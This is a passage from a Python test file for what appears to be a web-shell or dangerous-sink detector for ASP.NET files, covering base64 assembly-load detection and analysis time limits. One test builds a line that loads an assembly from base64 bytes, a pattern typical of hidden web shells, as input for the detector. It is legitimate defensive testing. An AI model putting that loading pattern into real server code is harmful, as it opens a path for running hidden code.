    assert _sinks(by_name, ".cs") == set()
    from_bytes = by_name.replace(
        'Assembly.Load("App_Code").GetType(c)',
        'Assembly.Load(System.Convert.FromBase64String(c)).GetType("P")',
    )
    assert "assembly-load" in _sinks(from_bytes, ".cs")


def test_huge_code_without_a_match_still_keeps_its_time_limit() -> None:
    """X10: a 1 MB .ashx of `<!-- #include -->` lines (no directive: the whole file is code) took 3-5 s
    with no problem named - the sink searches over the whole code never looked at the clock."""
    page = ('<!-- #include file="x.inc" -->\n' * 40000).encode()[:1_000_000]
    # (since session 13 big code is screened per pattern first, and this page is analysed whole in ~0.6 s
    # where it took 3 s: a budget far below that still stops it, on time)
    started = time.thread_time()
    result = behaviour.analyse(page, ".ashx", budget=0.02)
    assert result.problem is not None and "time limit" in result.problem
    assert time.thread_time() - started < 2.0
